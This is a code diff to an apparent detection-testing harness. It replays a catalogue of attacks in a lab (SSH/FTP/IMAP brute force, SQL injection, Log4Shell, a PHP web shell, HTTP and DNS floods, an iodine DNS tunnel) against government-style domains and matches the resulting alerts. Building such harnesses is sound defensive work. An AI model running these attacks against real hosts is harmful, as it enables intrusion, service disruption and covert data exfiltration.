@@ -5,6 +5,7 @@
 import os
 import random
 import subprocess
+import time
 
 from namespace import LOGIN, NAMES, PORTAL, RESOLVER, TUNNEL, WEB, speak_as
 from servers import USERS, ZONES
@@ -15,10 +16,11 @@ PORTAL_HOST, MAIN_HOST, LOGIN_HOST = "portal.kementerian.go.id", "www.kementeria
 
 
 class Attack:
-    """TITLE for people; SOURCE of its connections; CATEGORIES: one of them must be the incident's; VICTIM: its domain."""
+    """TITLE for people; SOURCE of its connections; RULES: one of these words is in the name of the incident's rule; VICTIM:
+    its domain, or the end of it."""
 
-    def __init__(self, title, source, categories, victim, function, by_source=True):
-        self.title, self.source, self.categories, self.victim = title, source, categories, victim
+    def __init__(self, title, source, rules, victim, function, by_source=True):
+        self.title, self.source, self.rules, self.victim = title, source, rules, victim
         self.function, self.by_source = function, by_source
 
     def run(self, lab):
@@ -28,8 +30,9 @@ class Attack:
     def is_found_in(self, incident):
         rule, siaga = incident.get("rule", {}), incident.get("siaga", {})
         named = self.source in incident.get("related", {}).get("ip", []) or incident.get("source", {}).get("ip") == self.source
-        return (rule.get("category") in self.categories and (named or not self.by_source) and
-                siaga.get("victim", {}).get("domain") == self.victim)
+        victim = siaga.get("victim", {}).get("domain", "")
+        return ((named or not self.by_source) and victim.endswith(self.victim) and
+                any(word in rule.get("name", "").lower() for word in self.rules))
 
 
 def tool(*command, seconds=60, **options):
@@ -169,12 +172,16 @@ def updates(lab):
 
 def tunnel(lab):
     """iodine's two ends, and a file that leaves through them."""
-    server = subprocess.Popen(["iodined", "-f", "-c", "-P", "rahasia", "-l", TUNNEL, "10.9.0.1/27", "t.lab.example"],
-                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    client = subprocess.Popen(["iodine", "-f", "-r", "-P", "rahasia", RESOLVER, "t.lab.example"], stdin=subprocess.DEVNULL,
-                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    with open(os.path.join(lab, "log", "iodine"), "ab") as out:
+        server = subprocess.Popen(["iodined", "-f", "-c", "-P", "rahasia", "-l", TUNNEL, "10.9.0.1/27", "t.lab.example"],
+                                  stdin=subprocess.DEVNULL, stdout=out, stderr=out)
+        time.sleep(2)  # iodined says nothing when it is up
+        client = subprocess.Popen(["iodine", "-f", "-r", "-P", "rahasia", RESOLVER, "t.lab.example"],
+                                  stdin=subprocess.DEVNULL, stdout=out, stderr=out)
     try:
-        tool("ping", "-c", "60", "-i", "0.2", "-s", "900", "10.9.0.1", seconds=25)
+        time.sleep(4)
+        # Both ends are on this machine: only the name of the client's device leads into the tunnel.
+        tool("ping", "-I", "dns1", "-c", "60", "-i", "0.2", "-s", "900", "10.9.0.9", seconds=25)
     finally:
         for process in (client, server):
             process.terminate()
@@ -182,36 +189,36 @@ def tunnel(lab):
 
 
 ATTACKS = {
-    "ssh-brute-force": Attack("SSH brute force (hydra)", "203.0.113.11", {"brute-force"}, LOGIN_HOST,
+    "ssh-brute-force": Attack("SSH brute force (hydra)", "203.0.113.11", {"brute force"}, LOGIN_HOST,
                               hydra("ssh", ["root"], WRONG)),
-    "ssh-names": Attack("SSH names guessed (hydra)", "203.0.113.12", {"brute-force"}, LOGIN_HOST,
+    "ssh-names": Attack("SSH names guessed (hydra)", "203.0.113.12", {"brute force", "guessed"}, LOGIN_HOST,
                         hydra("ssh", ["admin", "oracle", "git", "postgres", "test", "ubuntu", "deploy", "backup"], WRONG[:2])),
-    "ssh-takeover": Attack("SSH login at last succeeds (hydra)", "203.0.113.13", {"account-compromise"}, LOGIN_HOST,
+    "ssh-takeover": Attack("SSH login at last succeeds (hydra)", "203.0.113.13", {"login succeeded"}, LOGIN_HOST,
                            ssh_success_at_last),
-    "ftp-brute-force": Attack("FTP brute force (hydra)", "203.0.113.14", {"brute-force"}, LOGIN_HOST,
+    "ftp-brute-force": Attack("FTP brute force (hydra)", "203.0.113.14", {"brute force"}, LOGIN_HOST,
                               hydra("ftp", ["budi"], WRONG)),
-    "imap-brute-force": Attack("IMAP brute force (hydra)", "203.0.113.15", {"brute-force"}, LOGIN_HOST,
+    "imap-brute-force": Attack("IMAP brute force (hydra)", "203.0.113.15", {"brute force"}, LOGIN_HOST,
                                hydra("imap", ["budi"], WRONG)),
-    "pop3-spraying": Attack("POP3 password spraying (hydra)", "203.0.113.16", {"brute-force"}, LOGIN_HOST,
+    "pop3-spraying": Attack("POP3 password spraying (hydra)", "203.0.113.16", {"spraying", "guessed"}, LOGIN_HOST,
                             hydra("pop3", ["user%d" % n for n in range(12)], WRONG[:1])),
-    "sql-injection": Attack("SQL injection (sqlmap)", "203.0.113.20", {"web-attack"}, PORTAL_HOST, sqlmap),
-    "paths-dirb": Attack("paths guessed (dirb)", "203.0.113.21", {"scan"}, PORTAL_HOST, dirb),
-    "paths-gobuster": Attack("paths guessed (gobuster)", "203.0.113.22", {"scan"}, MAIN_HOST, gobuster),
-    "paths-ffuf": Attack("paths guessed (ffuf)", "203.0.113.23", {"scan"}, "jdih.kementerian.go.id", ffuf),
-    "traversal": Attack("path traversal (curl)", "203.0.113.25", {"web-attack"}, PORTAL_HOST, traversal),
-    "log4shell": Attack("Log4Shell (curl)", "203.0.113.26", {"web-attack"}, PORTAL_HOST, log4shell),
-    "web-shell": Attack("upload and web shell (curl, real PHP)", "203.0.113.27", {"web-shell"}, PORTAL_HOST, web_shell),
+    "sql-injection": Attack("SQL injection (sqlmap)", "203.0.113.20", {"sql injection"}, PORTAL_HOST, sqlmap),
+    "paths-dirb": Attack("paths guessed (dirb)", "203.0.113.21", {"web scan"}, PORTAL_HOST, dirb),
+    "paths-gobuster": Attack("paths guessed (gobuster)", "203.0.113.22", {"web scan"}, MAIN_HOST, gobuster),
+    "paths-ffuf": Attack("paths guessed (ffuf)", "203.0.113.23", {"web scan"}, "jdih.kementerian.go.id", ffuf),
+    "traversal": Attack("path traversal (curl)", "203.0.113.25", {"traversal"}, PORTAL_HOST, traversal),
+    "log4shell": Attack("Log4Shell (curl)", "203.0.113.26", {"log4", "java", "jndi"}, PORTAL_HOST, log4shell),
+    "web-shell": Attack("upload and web shell (curl, real PHP)", "203.0.113.27", {"web shell"}, PORTAL_HOST, web_shell),
     "gambling": Attack("gambling pages planted (curl)", "203.0.113.28", {"gambling"}, "ppid.kementerian.go.id", gambling,
                        by_source=False),
-    "portal-logins": Attack("portal logins stuffed (curl)", "203.0.113.29", {"brute-force"}, PORTAL_HOST, portal_logins),
-    "http-flood": Attack("HTTP flood (ab)", "203.0.113.30", {"web-flood", "availability", "flood"}, MAIN_HOST, http_flood),
-    "water-torture": Attack("random subdomains (dnsperf)", "203.0.113.40", {"dns-flood"}, "dinas.go.id", random_subdomains,
+    "portal-logins": Attack("portal logins stuffed (curl)", "203.0.113.29", {"web login", "brute force", "stuffing"}, PORTAL_HOST, portal_logins),
+    "http-flood": Attack("HTTP flood (ab)", "203.0.113.30", {"flood"}, MAIN_HOST, http_flood),
+    "water-torture": Attack("random subdomains (dnsperf)", "203.0.113.40", {"random-subdomain"}, "dinas.go.id", random_subdomains,
                             by_source=False),
-    "amplification": Attack("amplification (dnsperf)", "203.0.113.41", {"dns-amplification"}, "pemkot.go.id", amplification,
+    "amplification": Attack("amplification (dnsperf)", "203.0.113.41", {"amplification"}, "pemkot.go.id", amplification,
                             by_source=False),
-    "zone-transfers": Attack("zone transfers (dig AXFR)", "203.0.113.42", {"zone-transfer"}, None, zone_transfers),
-    "updates": Attack("dynamic updates (nsupdate)", "203.0.113.43", {"dns-update"}, None, updates),
-    "tunnel": Attack("DNS tunnel (iodine)", "203.0.113.44", {"dns-tunnel"}, None, tunnel, by_source=False),
+    "zone-transfers": Attack("zone transfers (dig AXFR)", "203.0.113.42", {"zone transfers"}, ".go.id", zone_transfers),
+    "updates": Attack("dynamic updates (nsupdate)", "203.0.113.43", {"updates"}, ".go.id", updates),
+    "tunnel": Attack("DNS tunnel (iodine)", "203.0.113.44", {"tunnel"}, "", tunnel, by_source=False),
 }
 SHORT = ("ssh-brute-force", "imap-brute-force", "paths-ffuf", "traversal", "web-shell", "gambling", "water-torture",
          "zone-transfers")
